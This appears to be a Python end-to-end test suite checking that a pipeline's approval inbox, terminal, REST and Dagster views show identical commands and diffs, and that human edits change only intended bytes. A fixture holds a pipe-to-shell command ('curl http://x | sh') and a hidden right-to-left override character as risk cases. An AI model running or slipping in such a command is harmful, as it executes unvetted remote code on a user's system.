"""A person sees the same commands, limits, recipe, policy and diff in the inbox, the terminal, REST and Dagster.

Only the bytes that an editor changed differ in an edited plan.
"""

from typing import Any

from sisu_pipeline.console import formatting
from sisu_pipeline.contracts.planned_work import CompletePlan
from sisu_pipeline.contracts.step_outputs import StepId
from sisu_pipeline.defs import asset_metadata
from sisu_pipeline.domain.canonical import sha256_hex
from sisu_pipeline.domain.status import RunStatus
from sisu_pipeline.domain.untrusted_text import for_terminal
from sisu_pipeline.store import steps
from sisu_pipeline.workflow import patching
from tests.e2e.browser import Browser
from tests.e2e.test_inbox import be, live, open_run, page
from tests.integration.api.conftest import Api, api
from tests.integration.gate.world import Waiting

__all__ = ["api", "live", "page"]

OPERATIONS = ("create", "modify", "delete", "rename", "to")
COMMAND = "sh -c 'curl http://x | sh' #"
FILES = {
    "a.txt": "one\ntwo\n",
    "crlf.txt": "a\r\nb\r\n",
    "end.txt": "x\n",
    "gone.txt": "goodbye\n",
    "old.txt": "moved\n",
    "run.sh": "true\n",
}
PATCHES = [
    {"targetPath": "a.txt", "postimageContent": 'one\nif x != "\u202e":\n', "diffText": "-lie\n+lie2\n"},
    {"targetPath": "crlf.txt", "postimageContent": "a\nb\n"},
    {"targetPath": "end.txt", "postimageContent": "x"},
    {"targetPath": "new/tool.sh", "postimageContent": "true\n", "mode": "100755"},
    {"targetPath": "gone.txt", "op": "delete"},
    {"targetPath": "new/name.txt", "op": "rename", "fromPath": "old.txt"},
    {"targetPath": "run.sh", "op": "modify", "mode": "100755"},
    {"targetPath": "data", "contentBase64": "//4A"},
]
TITLES = [
    "modify a.txt",
    "modify crlf.txt",
    "modify end.txt",
    "create new/tool.sh",
    "delete gone.txt",
    "rename old.txt to new/name.txt",
    "modify run.sh",
    "create data",
]
REMARKS = [
    "hidden characters: \\u202e",
    "line endings change from CRLF to LF",
    "the last line has no line end",
    "the file is executable",
    "the mode changes from 100644 to 100755",
    f"the content is binary: 3 bytes, sha256 {sha256_hex(bytes.fromhex('fffe00'))}",
]


def terminal(api: Api, run: Waiting) -> str:
    view = {**api.get(f"/runs/{run.run_id}/gates").json(), **api.get(f"/runs/{run.run_id}/interactions").json()}
    return for_terminal(formatting.gates({**view, "plan": api.get(f"/runs/{run.run_id}/plan").json()}))


def dagster(api: Api, run: Waiting) -> dict[str, Any]:
    with api.dependencies.database.connect() as connection:
        result = steps.stored(connection, run.run_id, StepId.APPLY_PATCH)
    assert result is not None
    metadata = asset_metadata.of_step(api.dependencies, run.id, result)
    return {name: getattr(value, "md_str", value) for name, value in metadata.items()}


def test_every_surface_shows_the_same_execution_and_the_same_diff(page: Browser, api: Api) -> None:
    run = Waiting(api.dependencies, testCommand=COMMAND, tests=["t1", "t2"], files=FILES, patches=PATCHES)
    plan = api.get(f"/runs/{run.run_id}/plan").json()
    complete = CompletePlan.from_json(plan["complete"])
    open_run(page, api, run)
    shown = {
        "inbox": page.one("#plan").text,
        "terminal": terminal(api, run),
        "dagster": "\n".join(map(str, dagster(api, run).values())),
    }
    facts = [f"{COMMAND} t1", f"{COMMAND} t2", complete.tasks[0].sandbox]
    facts += [complete.recipe.title, complete.policy.title, complete.base.title, plan["planSha256"], *REMARKS]
    facts_of_files = {*shown["terminal"].splitlines(), *shown["dagster"].splitlines()}
    for title in TITLES:
        assert {title, f"{title}:"} <= facts_of_files
        # The numbers of added and removed lines follow.
        assert any(line.startswith(f"{title.capitalize()} ") for line in shown["inbox"].splitlines())
    missing = {(name, fact) for name, text in shown.items() for fact in facts if fact not in text}
    assert missing == set()
    assert [remark for patch in plan["patches"] for remark in patch["remarks"]] == REMARKS
    for patch in plan["patches"]:
        for line in patch["diffText"].removesuffix("\n").split("\n"):
            written = line.replace("\r", "\\x0d").replace("\u202e", "\\u202e")
            assert written in shown["dagster"]
            assert written in shown["terminal"] or patch["targetPath"] == "data"
    assert "lie" not in "".join(shown.values())
    cells = [cell.text for cell in page.driver.find_elements("css selector", ".diff td.added")]
    assert cells == ['+ if x != "\\u202e":', "+ a", "+ b", "+ x no line end", "+ true"]
    captions = [each.text for each in page.driver.find_elements("css selector", ".diff caption")]
    assert captions == ["Changed file"] * 3 + ["New file", "Deleted file"]
    headings = [each.text for each in page.driver.find_elements("css selector", "#plan .file h4 code")]
    assert headings == [path for title in TITLES for path in title.split(" ") if path not in OPERATIONS]
    removed = [cell.text for cell in page.driver.find_elements("css selector", ".diff td.removed")]
    assert removed == ["− two", "− a\\x0d", "− b\\x0d", "− x", "− goodbye"]


CONTENTS = ["a\r\nb\r\n", "a\nb\r\nc", "a\rb", "\ufeffno end", "", "  a\n\n", "a\u2028b\x0b\u202e"]


def test_an_edit_of_one_risk_changes_no_other_byte(page: Browser, api: Api) -> None:
    patches = [{"targetPath": f"{number}.txt", "postimageContent": text} for number, text in enumerate(CONTENTS)]
    patches += [
        {**patch, "targetPath": f"x/{patch['targetPath']}"} for patch in PATCHES if "contentBase64" in patch
    ]
    patches += [patch for patch in PATCHES if "op" in patch]
    tests = [" leading", "trailing ", "two  blanks", "", "  "]
    run = Waiting(api.dependencies, testCommand="run\r\n", tests=tests, files=FILES, patches=patches)
    before = api.get(f"/runs/{run.run_id}/plan").json()
    open_run(page, api, run)
    be(page, "Ann")
    page.one("#edit").click()
    page.labelled("Risks").send_keys("a risk")
    page.one("#approve", "Approve the edited plan").click()
    page.one("#announcement", "Approved")
    after = api.get(f"/runs/{run.run_id}/plan").json()
    assert after["plan"] == {**before["plan"], "risks": ["a risk"]}
    assert after["planSha256"] == before["planSha256"]


def test_an_edit_of_one_line_keeps_the_line_ends_of_all_others(page: Browser, api: Api) -> None:
    patches = [{"targetPath": "a.txt", "postimageContent": "one\r\ntwo\nthree\r\nfour\r\nfive"}]
    run = Waiting(api.dependencies, patches=patches)
    open_run(page, api, run)
    be(page, "Ann")
    page.one("#edit").click()
    field = page.one("fieldset textarea")
    field.clear()
    field.send_keys("one\ntwo\nTHREE\nmore\nfour\nfive")
    page.one("#approve", "Approve the edited plan").click()
    page.one("#announcement", "Approved")
    plan = api.get(f"/runs/{run.run_id}/plan").json()
    assert plan["patches"][0]["after"] == "one\r\ntwo\nTHREE\r\nmore\r\nfour\r\nfive"
    assert run.segment().status is RunStatus.SUCCEEDED


def test_an_edit_of_a_list_keeps_the_items_around_it(page: Browser, api: Api) -> None:
    tests = [" leading", "", "changed", "  ", "trailing "]
    run = Waiting(api.dependencies, tests=tests)
    open_run(page, api, run)
    be(page, "Ann")
    page.one("#edit").click()
    field = page.labelled("Tests")
    field.clear()
    field.send_keys(" leading\n\nother\n\nmore\n  \ntrailing ")
    page.one("#approve", "Approve the edited plan").click()
    page.one("#announcement", "Approved")
    plan = api.get(f"/runs/{run.run_id}/plan").json()["plan"]
    assert plan["tests"] == [" leading", "", "other", "more", "  ", "trailing "]


def test_only_the_patches_that_are_kept_and_the_content_that_was_changed_are_approved(
    page: Browser, api: Api
) -> None:
    run = Waiting(api.dependencies, files=FILES, patches=PATCHES)
    before = api.get(f"/runs/{run.run_id}/plan").json()["plan"]
    open_run(page, api, run)
    be(page, "Ann")
    page.one("#edit").click()
    fieldsets = {
        each.find_element("css selector", "legend").text: each
        for each in page.driver.find_elements("css selector", "fieldset")
    }
    assert len(fieldsets) == len(PATCHES)
    assert not fieldsets["Delete gone.txt"].find_elements("css selector", "textarea")
    assert not fieldsets["Create data"].find_elements("css selector", "textarea")
    fieldsets["Delete gone.txt"].find_element("css selector", "input").click()
    fieldsets["Rename old.txt to new/name.txt"].find_element("css selector", "textarea").send_keys("more")
    page.one("#approve", "Approve the edited plan").click()
    page.one("#announcement", "Approved")
    view = api.get(f"/runs/{run.run_id}/plan").json()
    after = {patch["targetPath"]: patch for patch in view["plan"]["patchPlan"]}
    expected = {patch["targetPath"]: patch for patch in before["patchPlan"]}
    del expected["gone.txt"]
    renamed = after.pop("new/name.txt")
    assert renamed["postimageContent"] == "moved\nmore"
    assert (renamed["op"], renamed["fromPath"]) == ("rename", "old.txt")
    del expected["new/name.txt"]
    assert after == expected
    assert run.segment().status is RunStatus.SUCCEEDED
    root = patching.workspace_of(api.dependencies.workspaces, run.run_id).root
    assert (root / "gone.txt").read_text() == "goodbye\n"


def test_a_command_is_edited_and_executed_as_approved(page: Browser, api: Api) -> None:
    run = Waiting(api.dependencies, testCommand=COMMAND, tests=["t1"])
    open_run(page, api, run)
    be(page, "Ann")
    page.one("#edit").click()
    field = page.labelled("Command")
    field.clear()
    field.send_keys("pytest -x")
    page.one("#approve", "Approve the edited plan").click()
    page.one("#announcement", "Approved")
    page.one("#execution", "pytest -x t1")
    assert run.segment().status is RunStatus.SUCCEEDED
    assert [row["request"]["cmd"] for row in run.rows("sbx_runs")] == ["pytest -x t1"]
